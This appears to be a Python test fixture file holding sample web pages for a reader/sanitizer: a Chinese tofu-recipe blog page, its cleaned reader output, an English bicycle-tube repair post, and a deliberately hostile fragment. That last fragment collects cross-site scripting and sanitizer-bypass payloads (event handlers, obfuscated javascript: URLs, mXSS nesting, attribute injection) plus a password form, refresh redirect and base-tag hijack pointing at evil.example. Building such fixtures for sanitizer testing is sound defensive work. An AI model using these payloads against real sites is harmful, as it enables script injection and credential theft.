"""Pages written for these tests: a Chinese article, an English one, and a hostile one."""

ADDRESS = "https://blog.example.cn/2024/05/tofu"

CHINESE = """<!DOCTYPE html><html lang="zh-CN"><head><title>豆腐的四种做法 - 灶边笔记</title>
<meta property="og:site_name" content="灶边笔记"><meta name="description" content="从石磨到餐桌：家常豆腐。">
<link rel="canonical" href="/2024/05/tofu"></head><body>
<nav id="ls-1" data-ls-b="1"><a href="/">首页</a></nav>
<article><h1 id="zuofa" data-ls-b="2">豆腐的四种做法</h1>
<p id="ls-3" data-ls-b="3">作者：王小满　发布于 2024年5月3日 下午2:30</p>
<p id="ls-4" data-ls-b="4">豆腐是把黄豆浸泡一夜，磨成豆浆，煮开以后点卤做成的。水质与火候决定了它的口感，
所以同一位师傅在不同的地方做出来的味道也不一样，这一点许多人并不知道，<a href="/shui">水的故事</a>另有一篇。</p>
<h2 id="ls-5" data-ls-b="5">麻婆豆腐</h2>
<ul><li id="ls-6" data-ls-b="6">嫩豆腐一块，切成小方块，用盐水焯过。<ul>
<li id="ls-7" data-ls-b="7">盐水能去掉豆腥味，也让豆腐不容易碎。</li></ul></li></ul>
<pre id="ls-8" data-ls-b="8">火候 = 中火
时间 = 8 分钟</pre>
<p id="ls-9" data-ls-b="9">床前明月光<br>疑是地上霜，做豆腐的人起得比月亮还早，
天不亮就要推磨，一直到街上有了人声才歇下来喝一口热豆浆。</p>
<img alt="一块豆腐" data-linksnap-src="https://blog.example.cn/tofu.png" src="data:image/png;base64,iVBORw0KGgo=">
</article><footer id="ls-10" data-ls-b="10">版权所有 © 灶边笔记</footer></body></html>"""

CHINESE_READER = """<div id="readability-page-1" class="page"><h2 id="ls-5" data-ls-b="5">麻婆豆腐</h2>
<p id="ls-4" data-ls-b="4">豆腐是把黄豆浸泡一夜，<a href="https://blog.example.cn/shui">水的故事</a></p>
<ul><li id="ls-6" data-ls-b="6">嫩豆腐一块。<ul><li id="ls-7" data-ls-b="7">盐水</li></ul></li></ul>
<pre id="ls-8" data-ls-b="8">火候 = 中火</pre><p id="ls-9" data-ls-b="9">床前明月光</p>
<img src="https://blog.example.cn/tofu.png" alt="一块豆腐"></div>"""

ENGLISH = """<!DOCTYPE html><html lang="en-GB"><head><title>Mending a bicycle tube | Wheel Notes</title>
<script type="application/ld+json">{"@context":"https://schema.org","@graph":[
{"@type":"WebSite","name":"Wheel Notes"},
{"@type":"BlogPosting","headline":"Mending a bicycle tube","author":[{"@type":"Person","name":"Ada Turner"},
{"name":"Bo Lindqvist"}],"datePublished":"2023-11-09T08:15:00+0100","description":"Patch it at the roadside."}]}
</script></head><body><header><p>Wheel Notes: everything that rolls</p></header><main>
<h1>Mending a bicycle tube</h1>
<p>Take the wheel off, let the remaining air out and lift one side of the tyre over the rim with two levers. Pull the
inner tube out and find the hole: pump it up and hold it to your cheek, or under water, and follow the bubbles.</p>
<h2 id="glue">Glue, and patience</h2>
<p>Roughen the rubber, spread the cement thinly and wait five minutes until it is dry to the touch. Only then press the
patch on, from the middle outwards, and hold it down for as long as you can bear.</p>
<div hidden>Subscribe to our newsletter and win a bell!</div></main>
<footer><p>All rights reserved by the wheel people</p></footer></body></html>"""

HOSTILE_READER = """<div data-ls-b="1" id="ls-1" onclick="alert(1)" style="position:fixed" class="modal">你好 hello
<script>alert(1)</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)" id="a1">点我</a>
<a href=" jAvA&#x0A;script:alert(1)">two</a><a href="data:text/html,<script>alert(1)</script>">three</a>
<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>svg text</text></a></svg>
<style>body{display:none}</style><iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>sign in</button></form>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<img src="data:text/html,<script>alert(1)</script>">
<img srcset="https://evil.example/1.png 2x" src="//evil.example/2.png">
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>
<p data-ls-b="2&quot; onmouseover=&quot;alert(1)">numbered badly</p><object data="https://evil.example/o"></object>
<template><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
</div>"""
